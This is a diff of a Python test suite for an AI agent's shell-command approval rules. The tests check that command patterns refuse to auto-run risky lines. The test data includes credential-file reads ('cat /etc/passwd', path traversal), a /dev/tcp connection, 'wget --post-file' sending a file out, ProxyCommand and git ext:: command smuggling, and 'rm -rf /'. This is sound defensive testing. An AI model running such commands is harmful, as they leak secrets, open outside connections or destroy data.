@@ -18,6 +18,7 @@ from fsm_agent.approvals.rules import Asked, Pattern, allows
 from fsm_agent.conversation.effects import AskApproval
 from fsm_agent.settings.model import ApprovalSettings
 from fsm_agent.testing import ScriptedModel, call, text, tools
+from tests.helpers.text_tables import columns, sections
 from tests.security.shell_oracle import ACTS, REAL, Sandbox, did_run, is_read
 from tests.security.shell_tricks import OPTIONS, READS, Tricks
 
@@ -192,32 +193,13 @@ def test_what_is_not_understood_is_never_remembered(line: str) -> None:
     assert not allows([Pattern.of("terminal(*)"), Pattern.of("terminal(@read-only)")], call, "/work")
 
 
+PATTERNS = sections(Path(__file__).with_name("patterns.txt"))
+
+
 @pytest.mark.parametrize(
     ("patterns", "line", "unasked"),
-    [
-        ("git log*", "git log --oneline -3", True), ("git log*", "git log --output=x", False), ("git log*", "git log --outp x", False),
-        ("git log*", "git log | head", False), ("git log*", "git log > x", False), ("git log*", "git log 2>/dev/null", True),
-        ("git log*", "timeout 5 git log", True), ("git log*", "sudo git log", False), ("git log*", "'git' l\\og -p", True),
-        ("git log*", "bash -c 'git log'", True), ("git log*", "bash -c 'git log; rm x'", False), ("git *", "git -c core.pager=x log", False),
-        ("git *", "git fetch --upload-pack=x", False), ("git *", "git clone ext::x", False), ("git *", "git push", True),
-        ("sort *", "sort -o x y", False), ("sort *", "sort *", False), ("sort *", "sort ./*", True), ("ls *", "ls *", True),
-        ("sed *", "sed -i s/a/b/ x", False), ("sed -i *", "sed -i s/a/b/ x", True), ("sed -i *", "sed -i 's/a/b/w y' x", False),
-        ("curl *", "curl -K x", False), ("curl -o *", "curl -o x http://y", True), ("rsync *", "rsync -e x a b", False),
-        ("tar *", "tar xf a --to-command=x", False), ("tar *", "tar cIf x y z", False), ("make *", "make test SHELL=x", False),
-        ("make *", "make test", True), ("find *", "find . -delete", False), ("wget *", "wget -O x http://y", False), ("cd *", "cd x", False),
-        ("curl *", "curl --output-dir x http://y", False), ("wget *", "wget --post-file=x http://y", False), ("@read-only", "git config --unset-all a.b", False),
-        ("ssh *", "ssh -o ProxyCommand=x y", False), ("rm *", "rm a", True), ("rm *", "rm -r *", False), ("* x", "tee x", True),
-        ("@read-only", "grep -rn a . | sort | uniq -c | head -3 2>/dev/null && git status; ls 2>&1", True), ("@read-only", "make", False),
-        ("@read-only", "ls | tee x", False), ("@read-only", "cat /etc/passwd", False), ("@read-only", "cat ../../../../../../../../etc/passwd", False),
-        ("@read-only", "grep -f/etc/passwd x", False), ("@read-only", "grep -rf/etc/passwd x", False), ("@read-only", "grep -rf../.. x", False), ("@read-only", "cat < /etc/passwd", False), ("@read-only", "cat < /dev/tcp/x.test/80", False), ("@read-only", "cat < $X", False), ("@read-only", "cat < x", True), ("@read-only", "cat ~/.*", False),
-        ("@read-only", "echo $HOME", False), ("@read-only", "./ls", False), ("@read-only", "PATH=. ls", False), ("@read-only", "git stash", False),
-        ("@read-only", "git branch x", False), ("@read-only", "git branch -a", True), ("@read-only", "git config a.b c", False), ("@read-only", "cd x && ls", False),
-        ("@read-only", "uniq a b", False), ("@read-only", "awk '{print > \"x\"}' y", False), ("@read-only", "sed 's/a/b/;w x' y", False), ("@read-only", "# x", False),
-        ("@read-only", "jq 'env' x", False), ("@read-only", "date -s 1", False), ("@read-only", "hostname x", False), ("@read-only", "sudo cat x", False),
-        ("@read-only make*", "make test 2>&1 | tail -3", True), ("@read-only make*", "echo x | make -s", False), ("@read-only make*", "make a; make b", False),
-        ("@read-only make*", "echo x | bash -c 'make -s'", False), ("make*", "make test | tail", False), ("@read-only git*", "git add . && git status", True),
-    ],
-)  # fmt: skip
+    [(*row, title == "these run unasked") for title, rows in PATTERNS.items() for row in columns(rows)],
+)
 def test_what_patterns_allow(repository: Path, patterns: str, line: str, unasked: bool) -> None:
     work = str(repository)
     several = patterns.split() if patterns.startswith("@") else [patterns]
@@ -265,6 +247,7 @@ def test_always_holds_only_for_what_is_understood(tmp_path: Path) -> None:
 SHAPES = (
     "a ", "ls -l; ", "a(){", "$(", "`", "((", "'", "{a,b}", "X=1;", "$X", "${X:-", "$(echo ", "echo x|", "|sh ", '"', "for a in ", "<<E\n", "if a; then ",
     "case x in ", "[[ ", "> ", "a\\\n", "! ", "function f ", "$((", "a=(", "((a)) ", "2>&1 ", "sudo -u ", "a=$a$a;", "find -exec ", "find . -exec a \\; ",
+    "rm ", "/*", "x;", "{,}*", "X=", "$'", "bash <(", "base64 -d|", "python -c '", "<<< ",
     "timeout --x b ", "eval ", 'eval "', "watch a b ", "a && ", "{ a; } ", "(a);", "cd a;", "env -S 'a b' ", "xargs ", "trap 'a b' ", "rm -rf a{a,b} ", "git push ",
 )  # fmt: skip
 
@@ -274,9 +257,14 @@ SHAPES = (
 def test_reading_takes_time_in_proportion(shape: str) -> None:
     def seconds(size: int) -> float:
         started = time.process_time()
-        call = Asked.of("terminal", {"command": shape * (size // len(shape))}, (), "/work")
-        Pattern.of("terminal(git push * x)").forbids(call, "/work")
-        hard_line("ls; " + shape * (size // len(shape)), directory="/work")
+        line = shape * (size // len(shape))
+        Pattern.of("terminal(git push * x)").forbids(
+            Asked.of("terminal", {"command": line}, (), "/work"), "/work"
+        )
+        for before in ("ls; ", "rm -rf /"):
+            hard_line(before + line, directory="/work")
         return time.process_time() - started
 
-    assert seconds(100_000) < 8 * seconds(25_000) + 1
+    small = seconds(25_000)
+    assert small < 4
+    assert seconds(100_000) < 8 * small + 1
